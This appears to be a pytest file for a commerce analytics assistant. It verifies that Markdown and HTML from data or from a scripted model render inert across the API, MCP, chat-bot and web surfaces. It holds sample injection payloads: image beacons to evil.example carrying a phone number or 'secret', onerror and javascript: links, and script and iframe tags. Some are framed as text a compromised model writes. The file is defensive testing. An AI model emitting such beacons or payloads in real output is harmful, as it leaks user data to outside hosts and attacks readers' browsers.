"""Markdown and HTML from the data or from the model are inert on every surface that renders them:
/v1 replies, MCP text, DingTalk, Feishu, Slack and WeCom replies, and the web chat. No image beacon,
no raw HTML, no javascript:/data: link, no autolink to another host; the links the server publishes
itself (table images, chart pages) keep working. Markdown surfaces are checked by rendering them
with a real CommonMark renderer (markdown-it) and looking for links, images and tags in the HTML."""

from __future__ import annotations

import json
import re
import time
from typing import Any

import httpx
import pytest
from markdown_it import MarkdownIt

from assistant import inert
from assistant.answer import Answer
from assistant.api.markdown import answer_markdown as openai_markdown
from assistant.bots.format import build_reply, feishu_card, plain_text, slack_blocks
from assistant.bots.format import markdown as dingtalk_markdown
from assistant.mcp_server.results import answer_result
from assistant.router.clarify import Clarification, ClarifyOption
from assistant.web.chat import _final_messages, _step
from assistant.web.render import answer_markdown as web_markdown
from tests.openai_stub import StubOpenAI, text, tool_call
from tests.test_bots import DINGTALK, Stub, dingtalk_message, dingtalk_post
from tests.test_conversation_binding import run_mcp
from tools.result import Table

HOSTILE = [
    "![beacon](http://evil.example/collect?q=13800000000)",
    "<img src=http://evil.example/p.png onerror=alert(1)>",
    "[点我](javascript:alert(document.cookie))",
    "[data](data:text/html;base64,PHNjcmlwdD4=)",
    "<http://evil.example/autolink>",
    "see http://evil.example/bare and https://evil.example/s and www.evil.example/w",
    "protocol-relative //evil.example/x",
    "[ref][1]\n\n[1]: http://evil.example/ref",
    "![img][2]\n\n[2]: <http://evil.example/img.png>",
    "<a href='http://evil.example'>x</a><script>alert(1)</script><!-- hidden -->",
    "<iframe src=//evil.example></iframe>",
]
EVIL = "evil.example"
OURS = [("表格图片", "http://127.0.0.1:7860/api/images/Ab12_cd.png"),
        ("Chart: ![x](http://evil.example/t) <b>]", "http://127.0.0.1:7860/api/charts/Ef34_gh")]
RENDERER = MarkdownIt("commonmark").enable("table").enable("strikethrough")
GFM_AUTOLINK = re.compile(r"(?i)(https?://|ftp://|www\.)")  # what GFM would turn into a link by itself


def hostile_answer(value: str) -> dict[str, Any]:
    return {
        "answer": f"**排名第一**的是 {value}，¥1,234。", "language": "zh", "mode": "llm",
        "tool_calls": [{"name": "metric_query", "args": {"filters": {"product": value + " `x` ```"}}}],
        "tables": [{"name": f"top {value}", "columns": ["product", value], "rows": [[value, 12], ["正常商品", 3]],
                    "truncated": False, "row_count": 2}],
        "charts": [], "sql": [], "recommendations": [f"联系 {value}"], "error": None,
        "clarification": {"question": f"哪个 {value}?", "options": [{"label": value, "question": value}]},
        "assumptions": [f"假设 {value}"],
    }


def rendered(markdown: str) -> str:
    return RENDERER.render(markdown)


def assert_inert_html(html: str, allowed_links: list[str] = ()) -> None:
    """No link, image or tag that we did not make: only `allowed_links` may be hrefs or srcs."""
    for target in re.findall(r'(?:href|src)="([^"]*)"', html):
        assert target in allowed_links, target
    tags = set(re.findall(r"<\s*([a-zA-Z][\w-]*)", html))
    assert not tags & {"script", "iframe", "b", "object", "embed", "style", "svg"}, tags
    assert "<!--" not in html
    outside_code = re.sub(r"<code>.*?</code>", "", html, flags=re.DOTALL)  # code is never linked
    text_only = re.sub(r"<[^>]+>", "", outside_code)
    assert not GFM_AUTOLINK.search(text_only.replace("&amp;", "&")), text_only[:300]


def assert_no_autolinks(value: str) -> None:
    assert not GFM_AUTOLINK.search(value) and "//" + EVIL not in value and "javascript:" not in value


# --- the one module ----------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_inert_markdown_renders_no_link_image_or_tag(value: str) -> None:
    assert_inert_html(rendered(inert.markdown(value)))
    assert_inert_html(rendered(inert.escape_all(value)))


@pytest.mark.parametrize("value", HOSTILE)
def test_inert_slack_and_plain_carry_no_markup(value: str) -> None:
    for shown in (inert.slack(value), inert.plain(value)):
        assert "<" not in shown and ">" not in shown.replace("&gt;", "")
        assert_no_autolinks(shown)


def test_the_texts_own_formatting_still_renders() -> None:
    html = rendered(inert.markdown("**GMV** 上升\n\n- 第一\n- 第二\n\n| a | b |\n|---|---|\n| 1 | 2 |"))
    assert "<strong>GMV</strong>" in html and "<li>第一</li>" in html and "<table>" in html
    assert inert.markdown("¥1,234.50 占 31.3%，p < 0.05") == "¥1,234.50 占 31.3%，p &lt; 0.05"
    assert rendered(inert.markdown("p < 0.05")) == rendered("p < 0.05")  # the reader sees "p < 0.05" either way


# --- each surface, from the answer JSON ----------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_openai_reply_is_inert_but_keeps_our_links(value: str) -> None:
    html = rendered(openai_markdown(hostile_answer(value), OURS))
    assert_inert_html(html, allowed_links=[url for _, url in OURS])
    for _, url in OURS:
        assert f'href="{url}"' in html  # our table image and chart page stay links


@pytest.mark.parametrize("value", HOSTILE)
def test_dingtalk_and_feishu_are_inert_but_keep_our_links(value: str) -> None:
    reply = build_reply(hostile_answer(value), OURS)
    html = rendered(dingtalk_markdown(reply))
    assert_inert_html(html, allowed_links=[url for _, url in OURS])
    assert f'src="{OURS[0][1]}"' in html and f'href="{OURS[1][1]}"' in html  # image inline, chart linked
    card = feishu_card(reply)
    for element in card["body"]["elements"]:
        if element["tag"] == "markdown":
            assert_inert_html(rendered(element["content"]), allowed_links=[url for _, url in OURS])
        elif element["tag"] == "table":
            cells = json.dumps([element["columns"], element["rows"]], ensure_ascii=False)
            assert "<" not in cells and not GFM_AUTOLINK.search(cells)
    assert "<" not in card["config"]["summary"]["content"]


@pytest.mark.parametrize("value", HOSTILE)
def test_slack_and_wecom_are_inert(value: str) -> None:
    reply = build_reply(hostile_answer(value), OURS)
    fallback, blocks = slack_blocks(reply)
    assert "<" not in fallback
    assert_no_autolinks(fallback)
    sections = [b["text"]["text"] for b in blocks if b["type"] == "section"]
    ours = [f"<{url}|" for _, url in OURS]
    for section in sections:
        stripped = section
        for start in ours:
            stripped = re.sub(re.escape(start) + r"[^>]*>", "", stripped)
        assert "<" not in stripped, section  # no <url|label>, <!here> or <@user> of anyone else's
        assert_no_autolinks(stripped)
    assert any(start in s for s in sections for start in ours)
    wecom = plain_text(reply)
    without_ours = wecom
    for _, url in OURS:
        without_ours = without_ours.replace(url, "")
    assert "<" not in without_ours and "<a" not in wecom
    assert_no_autolinks(without_ours)


@pytest.mark.parametrize("value", HOSTILE)
def test_mcp_text_is_inert(value: str) -> None:
    import pandas as pd

    table = Table(f"top {value}", pd.DataFrame({"product": [value], value: [12]}))
    answer = Answer(f"排名第一的是 {value}", "zh", mode="llm", tables=[table], recommendations=[value],
                    clarification=Clarification(value, [ClarifyOption(value, value)]))
    result = answer_result(answer, {"conversation_id": value})
    assert_inert_html(rendered(result.content[0].text))
    error = answer_result(Answer(value, "en", error={"code": "bad_arguments", "message": value}))
    assert error.is_error and "<img" not in rendered(error.content[0].text)
    assert_inert_html(rendered(error.content[0].text))


@pytest.mark.parametrize("value", HOSTILE)
def test_web_chat_shows_the_models_text_as_text(value: str) -> None:
    answer = Answer(f"模型说：{value}", "zh", mode="llm", recommendations=[value], assumptions=[value])
    for message in _final_messages(answer, "zh"):
        assert_inert_html(rendered(message.content))
    assert_inert_html(rendered(web_markdown(answer, "zh")))


def test_a_made_up_tool_name_shows_as_name_characters_only() -> None:
    step = _step("<img src=http://evil.example/x.png>", "body", "done", "step-1")
    assert "<" not in step.metadata["title"] and "//" not in step.metadata["title"]


# --- the served surfaces, with a scripted model writing hostile Markdown --------------------------------

MODEL_TEXT = ("GMV 见上。![beacon](http://evil.example/c?q=secret) <img src=http://evil.example/i.png> "
              "[详情](javascript:alert(1)) http://evil.example/bare www.evil.example")


@pytest.fixture
def hostile_model(monkeypatch: pytest.MonkeyPatch):
    script = [tool_call("metric_query", {"metric": "gmv", "dimension": "month", "period": "last_90_days"}),
              text(MODEL_TEXT)]
    with StubOpenAI(*script) as stub:
        monkeypatch.setenv("OPENAI_API_KEY", "stub-key")
        monkeypatch.setenv("OPENAI_BASE_URL", stub.base_url)
        monkeypatch.setenv("ASSISTANT_MODEL", "stub-model")
        yield stub


def served_links(content: str, base: str) -> list[str]:
    return [u for u in re.findall(r'(?:href|src)="([^"]*)"', rendered(content)) if u.startswith(base)]


def test_served_openai_reply_neutralises_the_models_markdown(live_server, hostile_model) -> None:
    response = httpx.post(live_server.url + "v1/chat/completions", timeout=120, json={
        "model": "live-commerce-assistant", "messages": [{"role": "user", "content": "最近90天每月GMV"}]})
    assert response.status_code == 200, response.text[:300]
    content = response.json()["choices"][0]["message"]["content"]
    assert response.json()["answer"]["mode"] == "llm" and "GMV 见上" in content
    links = served_links(content, live_server.url.rstrip("/"))
    assert any(u.endswith(".png") for u in links) and any("/api/charts/" in u for u in links)
    assert_inert_html(rendered(content), allowed_links=links)
    for url in links:  # and they open
        assert httpx.get(url, timeout=30).status_code == 200


def test_served_mcp_text_neutralises_the_models_markdown(live_server, hostile_model) -> None:
    result = run_mcp(live_server.url + "mcp", {}, "最近90天每月GMV")
    assert not result.is_error and "GMV 见上" in result.content[0].text
    assert_inert_html(rendered(result.content[0].text))
    assert result.structured_content["answer"].startswith("GMV 见上")  # the JSON contract keeps the text


def test_served_dingtalk_reply_neutralises_the_models_markdown(live_server, hostile_model,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    platforms = Stub()
    try:
        for name, value in DINGTALK.items():
            monkeypatch.setenv(name, value)
        monkeypatch.setenv("ASSISTANT_DINGTALK_API_BASE", platforms.url)
        monkeypatch.setenv("ASSISTANT_BOTS_SYNC_SECONDS", "4.5")
        group = f"cidMarkdown{time.time_ns()}"
        response = dingtalk_post(live_server.url.rstrip("/"),
                                 dingtalk_message(platforms, text=" 最近90天每月GMV", conversation=group))
        assert response.status_code == 200
        markdown = response.json()["markdown"]["text"]
        assert "GMV 见上" in markdown
        links = served_links(markdown, live_server.url.rstrip("/"))
        assert any(u.endswith(".png") for u in links)
        assert_inert_html(rendered(markdown), allowed_links=links)
    finally:
        platforms.server.shutdown()
